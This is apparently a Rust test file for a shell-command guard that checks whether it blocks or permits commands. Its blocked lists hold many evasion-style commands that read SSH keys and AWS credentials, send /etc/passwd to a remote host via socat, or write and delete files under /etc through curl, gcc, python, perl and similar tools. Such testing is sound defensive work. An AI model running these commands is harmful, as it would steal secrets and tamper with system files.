//! What reaches a tool or a function by a way of its own: searches, patterns in addresses, lists of
//! arguments, variables, included files.

use super::code::{allowed, stopped};
use super::*;

#[test]
fn what_fd_finds_below_the_home_folder_is_what_its_command_is_given() {
    let judge = confined();
    let stopped = [
        "fd -H id_rsa / -X cat",
        "fd -H id_rsa /home/dev --exec-batch cat",
        "fd -uu id_rsa ~ -x cat {}",
        "fd --hidden id_rsa ~ -x cat",
        "fdfind -HI id_rsa ~ -x cat",
        "cd ~; fd -H id_rsa -X cat",
        "fd -H id_rsa -C ~ -X cat",
        "fd -H id_rsa --search-path ~ -X cat",
        "fd -H -e pem . ~ -x cat",
    ];
    assert_stopped(&judge, &stopped);
    let allowed = [
        "fd -e rs -x wc -l",
        "fd -H -e rs . src -x cat",
        "fd -H id_rsa -X cat",
        "fd -H main . -x cat",
        "fd README / -X cat",
        "fd -H -e rs . ~ -x cat",
        "fd -H id_rsa ~ -x ls -l",
        "fd -H pattern ~",
    ];
    assert_allowed(&judge, &allowed);
}

#[test]
fn an_address_of_socat_that_has_a_slash_is_a_file() {
    let judge = confined();
    assert_stopped(
        &judge,
        &[
            "socat /home/dev/.ssh/id_rsa -",
            "socat - /etc/x",
            "socat -u README.md /etc/x",
            "socat - /etc/x,append",
            "socat -u - '/etc/x!!-'",
            "socat -u /etc/passwd TCP:example.com:9",
        ],
    );
    assert_allowed(&judge, &["socat - -", "socat -V", "socat - UNIX-CONNECT:x.sock"]);
}

#[test]
fn what_curl_makes_of_an_address_itself_may_be_any_file() {
    let judge = confined();
    assert_stopped(
        &judge,
        &[
            "curl 'file:///home/dev/.ss{h,x}/id_rsa'",
            "curl 'file:///home/dev/.s[s-s]h/id_rsa'",
            "curl 'FILE:///home/dev/.aw{s}/credentials' -o k",
            "curl \"file:///{home}/dev/.ssh/id_rsa\"",
            "curl --url 'file:///home/dev/.ss{h}/id_rsa'",
            "curl --variable %HOME --expand-url 'file://{{HOME}}/.ssh/id_rsa'",
            "curl --variable %HOME --expand-output '{{HOME}}/x' localhost",
            "curl --variable x=/etc/x --expand-output '{{x}}' localhost",
        ],
    );
    assert_allowed(
        &judge,
        &[
            "curl file:///srv/dev/app/a.txt",
            "curl 'http://localhost/[1-3].txt'",
            "curl 'http://localhost/{a,b}.txt'",
            "curl --variable %LOGNAME --expand-user '{{LOGNAME}}' http://localhost",
            "code 'file:///srv/dev/app/[id].tsx'",
        ],
    );
}

#[test]
fn arguments_of_python_in_a_list_or_a_table_are_arguments() {
    stopped(
        "python3 -c",
        &[
            r#"open(*["/etc/x","w"])"#,
            r#"open(*("/etc/x","w"))"#,
            r#"open(**{"file":"/etc/x","mode":"w"})"#,
            r#"open("/etc/x", **{"mode":"w"})"#,
            r#"open("/etc/x", **dict(mode="w"))"#,
            r#"a=("/etc/x","w");open(*a)"#,
            r#"a="/etc/x","w";open(*a)"#,
            r#"k=dict(file="/etc/x",mode="w");open(**k)"#,
            r#"import io;io.open(*["/etc/x","w"])"#,
            r#"import shutil;shutil.copy(*["a","/etc/x"])"#,
        ],
    );
    allowed(
        "python3 -c",
        &[
            r#"open(*["out.txt","w"])"#,
            r#"open(**{"file":"out.txt","mode":"w"})"#,
            r#"open(*["/etc/hostname","r"])"#,
            r#"import sys; args=sys.argv[1:]; open(*args)"#,
            r#"a=("out.txt","w");open(*a)"#,
            r#"print(*[1, 2], **{"sep": "/"})"#,
        ],
    );
}

#[test]
fn folders_and_variables_of_python_are_followed() {
    stopped(
        "python3 -c",
        &[
            "import contextlib as c\nwith c.chdir(\"/etc\"): open(\"x\",\"w\")",
            "import contextlib\nwith contextlib.chdir(\"/etc\"):\n open(\"x\",\"w\")",
            r#"import os;print(open(os.path.expandvars("$HOME/.ssh/id_rsa")).read())"#,
            r#"import os;print(open(os.path.expandvars("${HOME}/.ssh/id_rsa")).read())"#,
            r#"import os;open(os.path.expandvars("$X/a"), "w")"#,
        ],
    );
    allowed(
        "python3 -c",
        &[
            "import contextlib\nwith contextlib.chdir(\"src\"):\n open(\"x\",\"w\")",
            r#"import os;print(open(os.path.expandvars("$HOME/notes.txt")).read())"#,
            r#"import os;print(os.path.expandvars("$PATH"))"#,
        ],
    );
}

#[test]
fn functions_of_perl_that_are_given_nothing_take_the_topic() {
    stopped(
        "perl -e",
        &[
            r#"unlink for "/etc/x""#,
            r#"$_="/etc/x";unlink"#,
            r#"for("/etc"){rmdir}"#,
            r#"map{unlink}"/etc/x""#,
            r#"unlink foreach ("../../../etc/x")"#,
            r#"$_="/etc/x";mkdir or die"#,
        ],
    );
    allowed(
        "perl -e",
        &[
            r#"unlink for "build/x""#,
            r#"$_="a.o";unlink"#,
            r#"for(glob "*.o"){unlink}"#,
            r#"unlink "a.o"; print "/etc/x""#,
        ],
    );
}

#[test]
fn files_that_a_compiled_text_includes_are_read() {
    let judge = confined();
    assert_stopped(
        &judge,
        &[
            "gcc -E -x c - <<< '#include \"/home/dev/.ssh/id_rsa\"'",
            "gcc -xc - <<< '#include \"/home/dev/.ssh/id_rsa\"'",
            "gcc -E -x c - <<< '#include </home/dev/.ssh/id_rsa>'",
            "cpp <<< '#include \"/home/dev/.ssh/id_rsa\"'",
            "cpp - <<< '#include \"/home/dev/.ssh/id_rsa\"'",
            "echo '#include \"/home/dev/.ssh/id_rsa\"' | gcc -E -",
            "as <<< '.incbin \"/home/dev/.ssh/id_rsa\"'",
            "gcc -c -x assembler - -o k.o <<< '.incbin \"/home/dev/.ssh/id_rsa\"'",
            "gcc -E - <<'E'\n#define F \"/home/dev/.ssh/id_rsa\"\n#include F\nE",
        ],
    );
    assert_allowed(
        &judge,
        &[
            "gcc -E -x c - <<< '#include <sys/types.h>'",
            "echo 'int main(){return 0;}' | gcc -xc - -o a",
            "echo \"int x = $n;\" | gcc -xc - -c -o a.o",
            "gcc -dM -E - < /dev/null",
            "gcc -E a.c",
            "cpp a.c",
            "cat a.c | gcc -xc -",
            "as -o a.o a.s",
        ],
    );
}

#[test]
fn options_that_name_a_folder_or_a_command_are_heeded() {
    let judge = confined();
    assert_stopped(
        &judge,
        &[
            "parallel --workdir /home/dev cat ::: .ssh/id_rsa",
            "parallel --wd /home/dev cat ::: .ssh/id_rsa",
            "tox -x testenv.commands='cat /home/dev/.ssh/id_rsa'",
        ],
    );
    assert_allowed(
        &judge,
        &["parallel --workdir src wc -l ::: a b", "tox -e py312", "tox -- tests/a.py -k x"],
    );
}
